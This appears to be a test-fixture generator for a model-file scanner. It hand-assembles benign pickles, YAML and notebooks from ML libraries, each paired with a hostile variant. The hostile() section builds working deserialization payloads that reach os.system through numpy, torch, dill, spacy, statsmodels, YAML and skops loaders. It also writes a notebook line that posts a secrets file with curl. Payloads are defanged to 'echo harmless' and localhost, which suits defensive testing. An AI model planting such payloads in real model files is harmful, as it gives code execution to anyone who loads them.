# SPDX-License-Identifier: Apache-2.0
"""What libraries write beside their estimators and tensors, in the shapes that they use, and next to each the same
shape in hostile hands. Nothing of these libraries is needed: the pickles are put together by hand."""
import argparse
import calendar
import collections
import configparser
import email.message
import functools
import inspect
import io
import ipaddress
import itertools
import operator
import os
import pickle
import re
import signal
import socket
import string
import http
import typing
import zipfile
import zoneinfo

import forms
import others
from forms import Code, call, name, value, whole


def new(module, attribute, *arguments):
    """cls.__new__(cls, …), as copyreg writes for most objects."""
    return Code(value(name(module, attribute)) + value(tuple(arguments)) + pickle.NEWOBJ)


def built(one, state):
    return Code(value(one) + value(state) + pickle.BUILD)


def persistent(one):
    return Code(value(one) + pickle.BINPERSID)


def plus(number):
    return number + 1


class Mode(str):
    pass


class BrokenError(Exception):
    pass


def standard_values():
    ring = collections.deque(maxlen=3)
    return {
        "status": http.HTTPStatus.OK, "signal": signal.SIGINT, "family": socket.AF_INET, "stat": os.stat_result(range(10)),
        "terminal": os.terminal_size((80, 24)), "address": ipaddress.ip_address("10.0.0.1"),
        "network": ipaddress.ip_network("10.0.0.0/8"), "expression": re.compile("a+b", re.I), "zone": zoneinfo.ZoneInfo("UTC"),
        "calendar": calendar.Calendar(), "parser": configparser.ConfigParser(), "message": email.message.EmailMessage(),
        "signature": inspect.signature(plus), "template": string.Template("$a"), "settings": argparse.Namespace(path="a/b"),
        "partial": functools.partial(max, 1, key=abs), "attribute": operator.attrgetter("a.b"),
        "method": operator.methodcaller("strip", "x"), "accumulate": itertools.accumulate([1, 2]),
        "combinations": itertools.combinations([1, 2, 3], 2), "starmap": itertools.starmap(pow, [(1, 2)]),
        "map": map(abs, [1]), "filter": filter(None, [0, 1]), "takewhile": itertools.takewhile(bool, [1]),
        "lists": typing.List[int], "optional": typing.Optional[int], "ring": ring, "text": Mode("train"),
        "errors": [ValueError("a b: c"), OSError(2, "no such file", "/etc/x"), BrokenError("could not do: x"), KeyError("k")]}


def class_pickles():
    """Classes by other names than classes mostly have, and functions that stand for classes."""
    made = {f"scipy_{one}": new("scipy.stats._continuous_distns", one) for one in ("beta_gen", "gamma_gen", "t_gen")}
    made |= {"vectorize": new("numpy", "vectorize"), "polynomial": new("numpy", "poly1d"), "filter": new(
        "scipy.signal._ltisys", "TransferFunctionContinuous"), "selector": new(
            "sklearn.compose._column_transformer", "make_column_selector"), "relative": new("dateutil.relativedelta", "relativedelta"),
             "own": new("__main__", "net"), "project": new("project.code.model", "Net"), "statespace": call(
                 name("statsmodels.tsa.statespace._representation", "dStatespace"), 1, 2),
             "cython": call(name("spacy.pipeline.trainable_pipe", "__pyx_unpickle_TrainablePipe"), 1, 2),
             "interval": call(name("pandas.core.indexes.interval", "_new_IntervalIndex"), name("pandas", "IntervalIndex"), {}),
             "arrow": call(name("pyarrow.lib", "list_"), 1), "expression": call(name("regex._regex", "compile"), "a+", 0),
             "censoring": call(name("lifelines.utils", "CensoringType"), "right_censoring"),
             "mode": call(name("acme.training", "Mode"), "fine-tune"), "tensor": call(
                 name("tensorflow.python.framework.ops", "convert_to_tensor"), 1, call(
                     name("tensorflow.python.framework.dtypes", "as_dtype"), "float32")), "keras": call(
                         name("tf_keras.src.saving.pickle_utils", "deserialize_model_from_bytecode"), others.keras(others.keras_layer())), "memory": built(new("joblib.memory", "Memory"), {"location": None}),
             "formula": built(new("statsmodels.base.data", "PandasData"), {"formula": "y ~ a + np.log(b) + C(g)"}),
             "ufunc": call(name("numpy.core", "_ufunc_reconstruct"), "numpy", "add"),
             "method": call(name("types", "MethodType"), name("acme", "Net"), 1)}
    made |= {f"cloudpickle_{number}": call(name(module, "subimport"), "numpy") for number, module in enumerate((
        "cloudpickle.cloudpickle", "joblib.externals.cloudpickle.cloudpickle", "numba.cloudpickle.cloudpickle"))}
    made |= {f"dill_{module}": call(name("dill._dill", "_import_module"), module) for module in ("math", "numpy", "os")}
    return made


def legacy_module(module, attribute, make):
    """A class as torch.save of before 1.6 wrote it: behind a persistent id, with its source."""
    return make(persistent(("module", name(module, attribute), "/site/net.py", "class Net: pass")))


def emptied(method):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("m/__init__.py", b"")
        archive.writestr("m/m.pkl", pickle.dumps([1]))
    return out.getvalue()


NAMESPACE = "hyper: !!python/object:argparse.Namespace\n  lr: 0.1\n"
PARTIAL = {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": {
    "__class__": "sum", "__module__": "numpy", "__loader__": "FunctionNode"}}}


def clean():
    out = {f"standard/{one}_{protocol}.pkl": pickle.dumps(each, protocol)
           for one, each in standard_values().items() for protocol in range(6)}
    out |= {f"class/{one}.pkl": whole(made) for one, made in class_pickles().items()}
    out["class/legacy.pkl"] = whole(legacy_module("torch.nn.modules.linear", "Linear", lambda made: Code(
        value(made) + value(()) + pickle.NEWOBJ)))
    out |= {f"zip/{method}.zip": emptied(method) for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)}
    return out | {
        "yaml/namespace/hparams.yaml": NAMESPACE.encode(), "yaml/tuple/hparams.yaml": b"size: !!python/tuple [1, 2]\n",
        "skops/partial.skops": others.archived([("schema.json", others.json.dumps(PARTIAL))]),
        "nb/evaluate.ipynb": others.notebook("model.eval()\nwith torch.no_grad():\n    model(x)"),
        "nb/data.ipynb": others.notebook("!wget -q https://data.example/train.csv\n!curl -O https://data.example/a.zip"),
        "nb/load.ipynb": others.notebook("import pickle\nmodel = pickle.load(open('m.pkl', 'rb'))")}


def hostile():
    made = {
        # A class of a known library opens, fetches or evaluates what it is given.
        "path": call(name("joblib.memory", "Memory"), "/tmp/x"), "address": call(name("datasets", "DownloadManager"), "http://127.0.0.1/"),
        "code": new("sympy.core.add", "Add", "__import__('os').system('echo harmless')"),
        "model": call(name("lightgbm.basic", "Booster"), {}, None, "m.pkl"),
        "corpus": call(name("gensim.corpora.mmcorpus", "MmCorpus"), "corpus"),
        "command": call(name("acme.jobs", "Runner"), "sh -c id"),
        # The ways by which clean ones come.
        "ufunc": call(call(name("numpy.core", "_ufunc_reconstruct"), "os", "system"), forms.HARMLESS),
        "import": call(name("numpy.core", "_ufunc_reconstruct"), "evil_module", "f"),
        "method": call(call(name("types", "MethodType"), name("os", "system"), forms.HARMLESS)),
        "dotted": call(call(name("torch._utils", "_import_dotted_name"), "os.system"), forms.HARMLESS),
        "snapshot": call(name("torch._utils", "_augment_memory_snapshot_stack_traces"), "snapshot"),
        "handle": call(name("dill._dill", "_create_filehandle"), "x", "w", 0, 0, name("acme", "Opener"), 0, 0, "data"),
        "formula": built(new("statsmodels.base.data", "PandasData"), {
            "restore_design_info": True, "formula": "y ~ __import__('os').system('echo harmless')"}),
        "collected": built(new("numpy.lib._datasource", "DataSource"), {"_istmpdest": True, "_destpath": "/tmp/none"}),
        "dill": call(name("dill._dill", "_import_module"), "antigravity"), "cython": call(
            name("spacy.vocab", "__pyx_unpickle_Vocab"), name("os", "system"), 1),
        "keras": call(name("tf_keras.src.saving.pickle_utils", "deserialize_model_from_bytecode"), others.keras(others.LAMBDA)),
        "cloudpickle": call(name("numba.cloudpickle.cloudpickle", "loads"), b"cos\nsystem\n(S'echo harmless'\ntR."),
        "behind": call(name("six.moves.builtins", "eval"), "1"), "green": call(name("eventlet.green.subprocess", "Popen"), "id"),
        "map": call(name("itertools", "imap"), name("os", "system"), [forms.HARMLESS])}
    # Pickles that begin as none does, in what a library unpickles.
    for number, begin in enumerate((b"N0", b"I1\n0", b"]0")):
        odd = begin + b"cos\nsystem\n(S'echo harmless'\ntR."
        made |= {f"torch_{number}": call(name("torch.storage", "_load_from_bytes"), odd), f"spacy_{number}": call(
            name("spacy.tokens.doc", "unpickle_doc"), 1, odd, b"x"), f"numba_{number}": call(
                name("numba.core.serialize", "_unpickle__CustomPickled"), odd), f"wrapper_{number}": built(new(
                    "stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper"), odd), f"pipe_{number}": built(new(
                        "torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper"), (odd, 1))}
    out = {f"class/{one}.pkl": whole(each) for one, each in made.items()}
    out["class/legacy.pkl"] = whole(legacy_module("os", "system", lambda each: call(each, forms.HARMLESS)))
    return out | {
        "yaml/second/hparams.yaml": (NAMESPACE + "x: !!python/object/apply:os.system ['echo harmless']\n").encode(),
        "skops/partial.skops": others.archived([("schema.json", others.json.dumps(PARTIAL).replace("numpy", "os").replace(
            "sum", "system"))]),
        "nb/plain.ipynb": others.notebook("!wget -q http://127.0.0.1/x"), "nb/sent.ipynb": others.notebook(
            "!curl -d @secrets https://127.0.0.1/"), "nb/eval.ipynb": others.notebook("x = eval('1')")}
